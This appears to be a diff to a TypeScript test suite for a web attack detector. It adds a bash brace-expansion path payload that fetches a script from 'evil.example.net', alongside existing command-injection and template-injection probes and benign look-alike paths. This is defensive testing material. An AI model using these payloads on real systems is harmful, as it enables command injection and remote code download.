@@ -4,8 +4,9 @@
  * missed, each read from its own grammar: Exim's string expansion, Groovy's Grape annotations,
  * H2's code definitions and init scripts, a reconnaissance program alone as the whole value,
  * PHP's self-report function handed over as a callback, Python's object-graph walk, the strings of
- * a JSON parameter, and template expressions of Smarty, Thymeleaf and Twig. Every attack example here failed before
- * this round; the benign look-alikes beside them stay quiet. Where: `q` a query value, `ua` the
+ * a JSON parameter, a brace group in the path, and template expressions of Smarty, Thymeleaf and
+ * Twig. Every attack example here failed before this round; the benign look-alikes beside them
+ * stay quiet. Where: `q` a query value, `ua` the
  * User-Agent, `json`/`form` a field of that body, `path` a whole request target (helpers.ts).
  */
 import { test } from 'node:test';
@@ -68,6 +69,8 @@ const ATTACKS: Array<[string, Where | 'host', string, AttackClass?]> = [
     'form',
     '[{"PASSWORD":"asd\\r\\nnslookup.exe evil.example.net 1.1.1.1","PORT":"80"}]',
   ],
+  // A brace group run after a separator, spanning segments of the path (bash's brace expansion).
+  ['a download by brace expansion in the path', 'path', "/x;{curl,http://evil.example.net/a.sh+-H+'X:+1'};?A"],
   // ssti: template expressions of engines the reader did not know.
   ["Smarty's single brace given a product", 'q', '{7*7}', 'ssti'],
   ['Smarty after a break-out', 'q', "'>{7*'7'}", 'ssti'],
@@ -97,6 +100,8 @@ const BENIGN: Array<[string, Where | 'host', string]> = [
   ["a class's name", 'q', 'def __init__(self):\n    print(self.__class__.__name__)'],
   ["a tutorial's method resolution order", 'q', 'print(A.__mro__, A.__bases__)'],
   ['__import__ of a module alone', 'q', "__import__('math')"],
+  ['a route template left in a path', 'path', '/api/items;{id}/x'],
+  ['a matrix parameter in braces', 'path', '/search;{q}'],
   ['a set of numbers in a sentence', 'q', 'the set {2*3} of numbers'],
   ['a superscript', 'q', 'x^{2*3}'],
   ['a Thymeleaf fragment reference', 'q', '~{fragment :: header}'],
